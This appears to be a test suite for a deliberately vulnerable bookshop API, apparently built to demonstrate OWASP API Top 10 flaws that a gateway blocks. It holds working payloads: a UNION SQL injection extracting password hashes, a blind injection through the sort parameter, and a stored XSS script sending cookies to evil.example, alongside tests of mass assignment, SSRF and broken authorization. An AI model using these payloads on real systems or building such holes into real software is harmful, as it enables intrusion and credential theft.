import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type ShopUnderTest, startShop } from './test-shop.ts';

/** The flaws are features here: what the gateway is shown to stop must really work without it. */
describe('the bare bookshop', () => {
  let shop: ShopUnderTest;
  before(async () => {
    shop = await startShop();
  });
  after(() => shop.stop());

  async function read(path: string) {
    return JSON.parse((await shop.send('GET', path)).text);
  }
  const query = encodeURIComponent;

  it('API8: gives the password hashes to a UNION in the search', async () => {
    const injection = "' UNION SELECT 1, email, passwordHash, 0 FROM customers -- ";
    const { items } = await read(`/search?q=${query(injection)}`);
    const admin = items.find((item: { title: string }) => item.title === 'admin@example.com');
    assert.match(admin.author, /^scrypt\$/);
  });

  it('API8: answers questions by the order of the books', async () => {
    const ask = async (role: string) => {
      const secret = "(SELECT role FROM customers WHERE id = 'cus_1000')";
      const sort = `CASE WHEN ${secret} = '${role}' THEN year ELSE -year END`;
      return (await read(`/books?limit=1&sort=${query(sort)}`)).items[0].title;
    };
    assert.equal(await ask('admin'), 'The Odyssey');
    assert.equal(await ask('customer'), 'Peter and Wendy');
  });

  it('API8: shows statement, stack and software', async () => {
    const { status, text, headers } = await shop.send('GET', `/search?q=${query("'x")}`);
    const { sql, stack } = JSON.parse(text);
    assert.equal(status, 500);
    assert.match(sql, /FROM books WHERE title LIKE/);
    assert.match(stack, /database\.ts:\d+/);
    assert.match(headers.get('x-powered-by') ?? '', /^Bookshop\/.* Node\/\d+/);
    assert.match((await shop.send('POST', '/orders', '{"broken')).text, /SyntaxError/);
  });

  it('API8: puts a stored script on the page of reviews', async () => {
    const text = '<script>fetch("//evil.example/"+document.cookie)</script>';
    await shop.send('POST', '/books/2/reviews', { customerId: 'cus_1002', rating: 1, text });
    assert.ok((await shop.send('GET', '/books/2/reviews.html')).text.includes(text));
  });

  it('API8: tells everybody its figures', async () => {
    assert.match((await shop.send('GET', '/internal/metrics')).text, /bookshop_revenue_cents \d+/);
  });

  it('API1: reads, writes and deletes what belongs to others', async () => {
    assert.equal((await read('/customers/cus_1002')).email, 'bob@example.com');
    assert.equal((await shop.send('PATCH', '/customers/cus_1002', { city: 'Nowhere' })).status, 200);
    assert.equal((await read('/orders/ord_5003')).customerId, 'cus_1003');
    assert.equal((await shop.send('DELETE', '/orders/ord_5003')).status, 204);
    assert.ok(
      new Set((await read('/orders')).items.map((o: { customerId: string }) => o.customerId)).size > 3,
    );
    const order = { customerId: 'cus_1004', items: [{ bookId: 1, quantity: 1 }] };
    assert.equal((await shop.send('POST', '/orders', order)).status, 201);
    const review = { customerId: 'cus_1004', rating: 1, text: 'Not by me.' };
    assert.match((await shop.send('POST', '/books/3/reviews', review)).text, /José/);
  });

  it('API2: asks for no credential, and looks at none', async () => {
    assert.equal((await shop.send('GET', '/orders')).status, 200);
    assert.equal((await shop.send('GET', '/customers')).status, 200);
  });

  it('API3: makes an administrator of whoever says so', async () => {
    const promoted = await shop.send('PATCH', '/customers/cus_1002', { role: 'admin', discount: 100 });
    assert.equal(promoted.status, 200);
    const { role, discount } = await read('/customers/cus_1002');
    assert.deepEqual([role, discount], ['admin', 100]);
  });

  it('API3: takes price and status from the buyer', async () => {
    const order = { customerId: 'cus_1001', items: [{ bookId: 17, quantity: 1 }], total: 1, status: 'paid' };
    const { total, status } = JSON.parse((await shop.send('POST', '/orders', order)).text);
    assert.deepEqual([total, status], [1, 'paid']);
  });

  it('API3: gives e-mail and password hash in version 1', async () => {
    const leaked = await read('/v1/customers/cus_1001');
    assert.equal(leaked.email, 'alice@example.com');
    assert.match(leaked.passwordHash, /^scrypt\$/);
  });

  it('API4: sends the whole table, takes a body of any size', async () => {
    const { items, total } = await read('/books?limit=-1');
    assert.ok(items.length === total && total > 60);
    const text = 'x'.repeat(3_000_000);
    const { status } = await shop.send('POST', '/books/4/reviews', {
      customerId: 'cus_1001',
      rating: 1,
      text,
    });
    assert.equal(status, 201);
  });

  it('API5: lets anybody do the work of the staff', async () => {
    const book = {
      title: 'Spam',
      author: 'Spammer',
      year: 2026,
      genre: 'novel',
      isbn: '9789000020003',
      price: 1,
    };
    const { status, headers } = await shop.send('POST', '/books', book);
    assert.equal(status, 201);
    assert.equal((await shop.send('DELETE', headers.get('location') ?? '')).status, 204);
    assert.equal((await read('/customers?limit=100')).items.length, 9);
    assert.equal((await shop.send('POST', '/internal/reindex')).status, 200);
  });

  it('API6: sells all copies to one buyer, pays out for a negative quantity, takes reviews in heaps', async () => {
    const stock = (await read('/books/5')).stock;
    const buy = (quantity: number) =>
      shop.send('POST', '/orders', { customerId: 'cus_1004', items: [{ bookId: 5, quantity }] });
    assert.equal((await buy(stock)).status, 201);
    assert.equal((await read('/books/5')).stock, 0);
    assert.ok(JSON.parse((await buy(-10)).text).total < 0);
    for (let count = 0; count < 5; count++)
      await shop.send('POST', '/books/6/reviews', { customerId: 'cus_1004', rating: 1, text: 'Bad.' });
    assert.equal((await read('/books/6/reviews')).total, 5);
  });

  it('API7: fetches its own internal part for a stranger', async () => {
    const book = { title: 'A', author: 'B', year: 1, genre: 'novel', isbn: '9789000030002', price: 1 };
    const coverUrl = `${shop.origin}/internal/metrics`;
    const { status, text } = await shop.send('POST', '/books', { ...book, coverUrl });
    assert.equal(status, 422);
    assert.match(text, /bookshop_info/);
  });

  it('API9: still serves version 1, unpaged', async () => {
    assert.ok((await read('/v1/books')).length > 60);
  });
});

describe('README.md', () => {
  it('lists the flaws that the code marks, file by file', () => {
    const folder = import.meta.dirname;
    const marked = new Set<string>();
    const mark = /FLAW\(OWASP-(API\d+):2023 [A-Z][A-Za-z ]+\): /g;
    for (const file of readdirSync(folder).filter((name) => /^[a-z-]+\.ts$/.test(name))) {
      const code = readFileSync(join(folder, file), 'utf8');
      for (const [, category] of code.matchAll(mark)) marked.add(`${category} ${file}`);
      assert.equal([...code.matchAll(mark)].length, code.split('// FLAW').length - 1, `a mark in ${file}`);
    }
    const listed = new Set<string>();
    const readme = readFileSync(join(folder, 'README.md'), 'utf8');
    for (const [, category, file] of readme.matchAll(/^\| (API\d+) +\|.*\| `([a-z-]+\.ts)` +\|$/gm))
      listed.add(`${category} ${file}`);
    assert.deepEqual([...listed].sort(), [...marked].sort());
  });
});
